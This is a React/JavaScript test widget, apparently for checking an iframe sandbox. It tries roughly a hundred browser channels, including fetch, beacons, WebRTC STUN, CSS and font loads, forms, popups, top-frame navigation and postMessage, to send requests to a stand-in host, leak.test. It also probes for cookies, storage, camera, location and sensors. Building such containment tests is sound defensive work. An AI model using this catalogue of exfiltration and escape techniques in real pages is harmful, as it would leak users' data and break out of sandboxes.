// A widget that tries to send data out of its frame in each way a browser has. Each channel asks a name of its own below leak.test,
// so a listener for DNS, TCP or UDP that sees a hit also sees which channel it came through. Ports are those of the listeners.
import { jsx } from 'react/jsx-runtime';
import { useEffect, useState } from 'react';

const at = (name) => `http://${name}.leak.test:TCP_PORT/${name}`;
const stun = (name) => `stun:${name}.leak.test:UDP_PORT`;

const element = (name, members, parent = document.body) => {
  const made = document.createElement(name);
  Object.assign(made, members);
  parent.append(made);
  return made;
};
const html = (text) => document.body.insertAdjacentHTML('beforeend', text);
const style = (textContent) => element('style', { textContent }, document.head);
const link = (rel, more = {}) => element('link', { rel, href: at(rel), ...more }, document.head);
const script = (type, textContent) => element('script', { type, textContent });
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const peer = async (type, name) => {
  const connection = new type({ iceServers: [{ urls: stun(name) }] });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
};
const attributes = (name, values) => {
  const made = document.createElement(name);
  for (const [attribute, value] of Object.entries(values)) made.setAttribute(attribute, value);
  document.body.append(made);
  return made;
};

const channels = {
  // Requests by script.
  fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
  keepalive: () => fetch(at('keepalive'), { mode: 'no-cors', keepalive: true }),
  fetchlater: () => fetchLater(at('fetchlater'), { activateAfter: 0 }),
  xhr: () => { const request = new XMLHttpRequest(); request.open('GET', at('xhr')); request.send(); },
  websocket: () => new WebSocket(at('websocket').replace('http', 'ws')),
  websocketstream: () => new WebSocketStream(at('websocketstream').replace('http', 'ws')),
  eventsource: () => new EventSource(at('eventsource')),
  beacon: () => navigator.sendBeacon(at('beacon'), 'x'),
  webtransport: () => new WebTransport(at('webtransport').replace('http', 'https')),
  payment: () => new PaymentRequest([{ supportedMethods: at('payment') }], { total: { label: 'x', amount: { currency: 'SEK', value: '1' } } }).canMakePayment(),
  presentation: () => new PresentationRequest(at('presentation')).getAvailability(),
  notification: () => new Notification('x', { icon: at('notification') }),
  artwork: () => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: at('artwork') }] }); },
  identity: () => navigator.credentials.get({ identity: { providers: [{ configURL: at('identity'), clientId: 'x' }] } }),
  auction: () => navigator.joinAdInterestGroup({ owner: at('auction'), name: 'x' }, 1000),

  // Code.
  import: () => import(at('import')),
  importofablob: () => import(blob(`import '${at('importofablob')}';`)),
  script: () => element('script', { src: at('script') }),
  inlinescript: () => script('', `import('${at('inlinescript')}')`),
  importmap: () => { script('importmap', JSON.stringify({ imports: { out: at('importmap') } })); return import('out'); },
  worker: () => new Worker(blob(`fetch('${at('worker')}')`)),
  sharedworker: () => new SharedWorker(blob(`fetch('${at('sharedworker')}')`)),
  serviceworker: () => navigator.serviceWorker.register(at('serviceworker')),
  paintworklet: () => CSS.paintWorklet.addModule(at('paintworklet')),
  audioworklet: () => new AudioContext().audioWorklet.addModule(at('audioworklet')),

  // Images, styles and fonts.
  image: () => { new Image().src = at('image'); },
  imageset: () => html(`<img srcset="${at('imageset')} 1x">`),
  inputimage: () => attributes('input', { type: 'image', src: at('inputimage') }),
  attribution: () => attributes('img', { attributionsrc: at('attribution') }),
  picture: () => html(`<picture><source srcset="${at('picture')}"><img></picture>`),
  drawing: () => html(`<svg><image href="${at('drawing')}"/></svg>`),
  use: () => html(`<svg><use href="${at('use')}#a"/></svg>`),
  filter: () => html(`<svg><filter id="f"><feImage href="${at('filter')}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`),
  stylesheet: () => link('stylesheet'),
  styleimport: () => style(`@import url(${at('styleimport')});`),
  background: () => style(`body { background: url(${at('background')}) }`),
  cursor: () => style(`html { cursor: url(${at('cursor')}), auto }`),
  content: () => style(`body::after { content: url(${at('content')}) }`),
  mask: () => style(`#root { mask: url(${at('mask')}#m) }`),
  font: () => new FontFace('x', `url(${at('font')})`).load(),
  fontface: () => { style(`@font-face { font-family: leak; src: url(${at('fontface')}) }`); html('<p style="font-family: leak">x</p>'); },
  video: () => element('video', { src: at('video') }),
  poster: () => element('video', { poster: at('poster') }),
  audio: () => element('audio', { src: at('audio') }),
  track: () => html(`<video src="data:video/mp4,"><track default src="${at('track')}"></video>`),

  // Hints to the browser.
  icon: () => link('icon'),
  manifest: () => link('manifest'),
  preload: () => link('preload', { as: 'image' }),
  modulepreload: () => link('modulepreload'),
  prefetch: () => link('prefetch'),
  prerender: () => link('prerender'),
  preconnect: () => link('preconnect'),
  'dns-prefetch': () => link('dns-prefetch'),
  dictionary: () => link('compression-dictionary', { href: at('dictionary') }),
  prefetchrules: () => script('speculationrules', JSON.stringify({ prefetch: [{ source: 'list', urls: [at('prefetchrules')], eagerness: 'immediate' }] })),
  prerenderrules: () => script('speculationrules', JSON.stringify({ prerender: [{ source: 'list', urls: [at('prerenderrules')], eagerness: 'immediate' }] })),
  policyreport: () => {
    element('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${at('policyreport')}` }, document.head);
    new Image().src = 'data:,x';
  },

  // Navigations other than of the frame itself.
  form: () => element('form', { action: at('form'), method: 'post' }).submit(),
  formtarget: () => element('form', { action: at('formtarget'), target: '_blank' }).submit(),
  popup: () => open(at('popup')),
  link: () => element('a', { href: at('link'), target: '_blank' }).click(),
  ping: () => element('a', { href: '#x', ping: at('ping') }).click(),
  download: () => element('a', { href: blob('x'), download: 'download' }).click(),
  downloaddata: () => element('a', { href: 'data:text/plain,x', download: 'downloaddata' }).click(),
  top: () => { top.location = at('top'); },
  parent: () => { parent.location.href = at('parent'); },
  targettop: () => element('a', { href: at('targettop'), target: '_top' }).click(),
  history: () => history.pushState(null, '', at('history')),

  // Documents inside of the frame.
  frame: () => element('iframe', { src: at('frame') }),
  frameoftext: () => element('iframe', { srcdoc: `<img src=${at('frameoftext')}><script src=${at('frameoftext')}></script>` }),
  frameofdata: () => element('iframe', { src: `data:text/html,<img src=${at('frameofdata')}>` }),
  frameofablob: () => element('iframe', { src: blob(`<img src=${at('frameofablob')}>`, 'text/html') }),
  frameofascript: () => element('iframe', { src: `javascript:fetch('${at('frameofascript')}')` }),
  framewithablob: () => element('iframe', { srcdoc: `<script src="${blob(`new Image().src = '${at('framewithablob')}'`)}"></script>` }),
  object: () => element('object', { data: at('object') }),
  embed: () => element('embed', { src: at('embed') }),
  fencedframe: () => { element('fencedframe', {}).config = new FencedFrameConfig(at('fencedframe')); },

  // Peers.
  peer: () => peer(RTCPeerConnection, 'peer'),
  peerofaframe: () => peer(element('iframe', {}).contentWindow.RTCPeerConnection, 'peerofaframe'),

  // Windows of others. A page that listened would act on these.
  toparent: () => parent.postMessage('leak toparent', '*'),
  totop: () => top.postMessage('leak totop', '*'),
  toopener: () => opener.postMessage('leak toopener', '*'),
  toothers: () => { for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage('leak toothers', '*'); },
};

let heard = false;
addEventListener('message', ({ source, data }) => { heard ||= source !== self && String(data).startsWith('leak'); });

const measured = (type) => new Promise((resolve, reject) => {
  const sensor = new type();
  Object.assign(sensor, { onreading: () => resolve(true), onerror: reject });
  sensor.start();
});

/** What may succeed only outside of a frame with an opaque origin. Each returns a truthy value if it succeeds. */
const reads = {
  origin: () => self.origin !== 'null',
  page: () => parent.document.body,
  address: () => parent.location.href,
  opener: () => opener,
  cookie: () => { document.cookie = 'a=b'; return document.cookie; },
  localStorage: () => localStorage,
  database: () => indexedDB.open('x'),
  caches: () => caches.keys(),
  files: () => navigator.storage.getDirectory(),
  broadcast: () => new BroadcastChannel('x'),
  locks: () => navigator.locks.request('x', () => true),
  worker: () => new Promise((resolve, reject) => {
    Object.assign(new Worker(blob('postMessage(1)')), { onmessage: resolve, onerror: reject });
  }),
  clipboard: () => navigator.clipboard.writeText('x'),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  accelerometer: () => measured(Accelerometer),
  gyroscope: () => measured(Gyroscope),
  gamepads: () => navigator.getGamepads(),
  battery: () => navigator.getBattery(),
  idle: () => new IdleDetector().start(),
  usb: () => navigator.usb.getDevices(),
  screen: () => navigator.wakeLock.request('screen'),
  evaluation: () => eval('1'),
  nonce: () => [...document.querySelectorAll('script')].some((one) => one.nonce),
};

// Each attempt has this long; one that waits forever, such as a navigation that was refused, has failed.
const within = (attempt, ms) => Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, ms))]);

async function tryAll(done) {
  for (const attempt of Object.values(channels)) {
    try {
      await within(attempt, 200);
    } catch {
      // The listeners decide whether something got out, not what the browser reports.
    }
  }
  const read = [];
  for (const [name, attempt] of Object.entries(reads)) {
    try {
      // A worker takes longer to start.
      if (await within(attempt, name === 'worker' ? 5000 : 200)) {
        read.push(name);
      }
    } catch {
      // Refused.
    }
  }
  // What a page sends while it goes.
  addEventListener('pagehide', () => {
    new Image().src = at('pagehide');
    try {
      navigator.sendBeacon(at('pagehidebeacon'), 'x');
    } catch {
      // Refused.
    }
  });
  done(`tried ${Object.keys(channels).length}, read ${read.join(' ') || 'nothing'}`);
}

/** Ways to leave the frame or the page: each ends the widget, so the test presses one of the buttons. */
const leaving = {
  leave: () => { location.href = at('leave'); },
  back: () => { history.back(); },
  refresh: () => { element('meta', { httpEquiv: 'refresh', content: `0; url=${at('refresh')}` }, document.head); },
};

export default function Hostile() {
  const [result, setResult] = useState('trying');
  const [count, setCount] = useState(0);
  useEffect(() => {
    void tryAll(setResult);
    const timer = setInterval(() => setCount((before) => before + 1), 50);
    return () => clearInterval(timer);
  }, []);
  return [
    jsx('p', { id: 'result', children: result }, 'result'),
    jsx('p', { id: 'count', children: count }, 'count'),
    jsx('p', { id: 'heard', children: heard ? 'heard another frame' : 'heard nobody' }, 'heard'),
    ...Object.keys(leaving).map((name) => jsx('button', { onClick: leaving[name], children: name }, name)),
  ];
}
